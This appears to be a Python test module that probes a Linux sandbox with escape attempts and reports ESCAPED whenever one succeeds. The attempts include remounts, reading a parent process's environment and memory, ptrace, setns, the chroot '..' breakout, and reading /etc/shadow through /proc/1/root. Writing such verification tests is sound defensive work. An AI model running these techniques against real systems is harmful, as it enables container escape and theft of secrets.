"""Attacks on the sandbox itself: undoing its mounts and namespaces, reaching the parent's
/proc, memory and namespaces, tracing, new namespaces, kernel interfaces (BPF, keyrings, module
and kexec loading, the new mount API, io_uring, file handles), global sysctls, the cgroup,
chroot games. Each prints ``ESCAPED: ...`` when it gets through (see attack_syscalls.py)."""
import ctypes
import errno
import os
import struct

from attack_syscalls import (CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWUSER, MS_BIND, MS_REMOUNT, escaped, libc,
                             mount_points, note, read, sc, tcp_try, try_umount_proc)


def remount_root(P):
    for point in ["/"] + mount_points():
        ret, err = sc("mount", None, point.encode(), None, MS_REMOUNT | MS_BIND, None)
        if ret == 0:
            escaped(f"remounted {point} writable")
    for path in (P["host_file"], "/usr/tf-attack", "/etc/tf-attack"):
        try:
            with open(path, "w") as f:
                f.write("written from the sandbox")
            escaped(f"wrote {path}")
        except OSError as e:
            note(f"write {path}", e.errno)


def umount_proc(P):
    try_umount_proc()
    pids = [d for d in os.listdir("/proc") if d.isdigit()] if os.path.isdir("/proc") else []
    if len(pids) > 30:
        escaped(f"/proc shows {len(pids)} processes")
    cmd = read(f"/proc/{P['host_pid']}/cmdline") or b""
    if P["host_marker"].encode() in cmd:
        escaped("the host's process is visible in /proc")


def parent_environ(P):
    try_umount_proc()
    for entry in set(os.listdir("/proc") if os.path.isdir("/proc") else []) | {str(P["host_pid"])}:
        data = read(f"/proc/{entry}/environ")
        if data and P["secret"].encode() in data:
            escaped(f"secret read from /proc/{entry}/environ")
    if P["secret"] in str(dict(os.environ)):
        escaped("secret in the program's own environment")


def parent_mem(P):
    try_umount_proc()
    for pid in (P["host_pid"], os.getppid()):
        try:
            with open(f"/proc/{pid}/mem", "rb") as f:
                f.seek(P["secret_addr"])
                if P["secret"].encode() in f.read(len(P["secret"])):
                    escaped(f"parent heap read through /proc/{pid}/mem")
        except (OSError, ValueError, OverflowError) as e:
            note(f"/proc/{pid}/mem", getattr(e, "errno", 0) or 1)


def setns_host(P):
    try_umount_proc()
    for pid in (P["host_pid"], 1):
        for ns, flag in (("net", CLONE_NEWNET), ("mnt", CLONE_NEWNS)):
            try:
                fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
            except OSError as e:
                note(f"open /proc/{pid}/ns/{ns}", e.errno)
                continue
            ret, err = sc("setns", fd, flag)
            if ret == 0:
                escaped(f"setns into /proc/{pid}/ns/{ns}")
            else:
                note(f"setns {ns}", err)
    tcp_try(P, "127.0.0.1")
    if read(P["tmp_secret_file"]):
        escaped("read the host /tmp after setns")


def ptrace_parent(P):
    PTRACE_ATTACH = 16
    for pid in (os.getppid(), 1, P["host_pid"]):
        ret, err = sc("ptrace", PTRACE_ATTACH, pid, None, None)
        if ret == 0:
            escaped(f"ptrace attached to {pid}")
        else:
            note(f"ptrace {pid}", err)


def process_vm_readv(P):
    n = len(P["secret"])
    buf = ctypes.create_string_buffer(n)

    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    local, remote = iovec(ctypes.addressof(buf), n), iovec(P["secret_addr"], n)
    for pid in (P["host_pid"], os.getppid()):
        ret, err = sc("process_vm_readv", pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if ret > 0 and P["secret"].encode() in buf.raw:
            escaped(f"process_vm_readv read the host's heap ({pid})")
        elif ret >= 0:
            escaped(f"process_vm_readv allowed on {pid}")
        else:
            note(f"process_vm_readv {pid}", err)


def new_namespaces(P):
    for flags, what in ((CLONE_NEWUSER, "user"), (CLONE_NEWNS, "mount"), (CLONE_NEWNET, "net")):
        pid = os.fork()
        if pid == 0:  # unshare in a child, so that this process keeps testing
            ret, _ = sc("unshare", flags)
            os._exit(0 if ret == 0 else 1)
        _, status = os.waitpid(pid, 0)
        if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
            escaped(f"unshare({what}) succeeded")
    SIGCHLD = 17
    ret, err = sc("clone", CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
    if ret == 0:
        libc.syscall(ctypes.c_long(60), ctypes.c_long(0))  # raw exit in the raw child
    if ret > 0:
        os.waitpid(ret, 0)
        escaped("clone(CLONE_NEWUSER) succeeded")
    else:
        note("clone(CLONE_NEWUSER)", err)


def bpf(P):
    attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112))  # ARRAY map
    ret, err = sc("bpf", 0, attr, len(attr))  # BPF_MAP_CREATE
    if ret >= 0:
        escaped("bpf(BPF_MAP_CREATE) succeeded")
    else:
        note("bpf", err)


def keyctl(P):
    KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, KEY_SPEC_PROCESS_KEYRING = 0, -4, -2
    ret, err = sc("keyctl", KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0)
    if ret >= 0:
        escaped(f"keyctl reached the user keyring ({ret})")
    ret, err = sc("add_key", b"user", b"tf-attack", b"x", 1, KEY_SPEC_PROCESS_KEYRING)
    if ret >= 0:
        escaped("add_key succeeded")
    else:
        note("add_key", err)


def capabilities(P):
    status = dict(line.split(":\t", 1) for line in (read("/proc/self/status", mode="r") or "").splitlines()
                  if ":\t" in line)
    print("status", {k: status.get(k, "?").strip() for k in ("Uid", "CapEff", "CapBnd", "NoNewPrivs", "Seccomp")})
    if int(status.get("CapEff", "0"), 16) or int(status.get("CapBnd", "0"), 16):
        escaped(f"capabilities held: CapEff {status.get('CapEff')}")
    if status.get("NoNewPrivs", "").strip() != "1":
        escaped("no_new_privs is off")
    if status.get("Seccomp", "").strip() != "2":
        escaped("no seccomp filter")
    if os.getuid() == 0 or os.geteuid() == 0:
        escaped("runs as uid 0")


def open_by_handle(P):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    ret, err = sc("name_to_handle_at", -100, b"/", handle, ctypes.byref(mount_id), 0)
    if ret != 0:
        note("name_to_handle_at", err)
    fd = os.open("/", os.O_RDONLY)
    ret, err = sc("open_by_handle_at", fd, handle, os.O_RDONLY)
    if ret >= 0:
        escaped("open_by_handle_at opened a file by handle")
    else:
        note("open_by_handle_at", err)


def modules_and_kexec(P):
    # Arguments are invalid on purpose: past the privilege check the kernel rejects them, so
    # any errno but EPERM/ENOSYS means the gate was open (and nothing is loaded).
    calls = {"init_module": (None, 0, b""), "finit_module": (-1, b"", 0),
             "delete_module": (b"tf_no_such_module", 0), "kexec_load": (0, 0, None, 0xFFFF0000),
             "kexec_file_load": (-1, -1, 0, None, 0xFFFFFFFF)}
    for name, args in calls.items():
        ret, err = sc(name, *args)
        if ret == 0 or err not in (errno.EPERM, errno.ENOSYS):
            escaped(f"{name} passed the privilege check ({errno.errorcode.get(err, err)})")
        else:
            note(name, err)


def new_mount_api(P):
    ret, err = sc("fsopen", b"tmpfs", 0)
    if ret >= 0:
        escaped("fsopen(tmpfs) succeeded")
    else:
        note("fsopen", err)


def io_uring(P):
    params = ctypes.create_string_buffer(120)
    ret, err = sc("io_uring_setup", 1, params)
    if ret >= 0:
        escaped("io_uring_setup succeeded (a channel around seccomp)")
    else:
        note("io_uring_setup", err)


def proc_sys_write(P):
    path = "/proc/sys/kernel/core_pattern"
    value = read(path)
    if value is None:
        return note("read core_pattern", 1)
    try:
        with open(path, "wb") as f:
            f.write(value)  # the same value: proves the write, changes nothing
        escaped("wrote a global sysctl (kernel.core_pattern)")
    except OSError as e:
        note("write core_pattern", e.errno)


def cgroup_escape(P):
    root = "/sys/fs/cgroup/pids"
    sc("mount", None, root.encode(), None, MS_REMOUNT | MS_BIND, None)
    for group in (root, "/sys/fs/cgroup"):
        try:
            with open(f"{group}/cgroup.procs", "w") as f:
                f.write(str(os.getpid()))
            escaped(f"moved itself into {group}")
        except OSError as e:
            note(f"cgroup {group}", e.errno)


def chroot_escape(P):
    try:
        os.mkdir("jail")
        os.chroot("jail")
        for _ in range(20):
            os.chdir("..")
        os.chroot(".")
        note("chroot worked (escape checked below)")
    except OSError as e:
        note("chroot", e.errno)
    if read(P["tmp_secret_file"]) or read("/etc/shadow"):
        escaped("host files readable after chroot games")


def proc_1_root(P):
    for pid in (1, P["host_pid"], "self"):
        for path in (P["tmp_secret_file"], "/etc/shadow", P["project_file"]):
            if read(f"/proc/{pid}/root{path}"):
                escaped(f"read /proc/{pid}/root{path}")


ATTACKS = {name: fn for name, fn in dict(globals()).items()
           if callable(fn) and getattr(fn, "__module__", None) == __name__ and not name.startswith("_")}
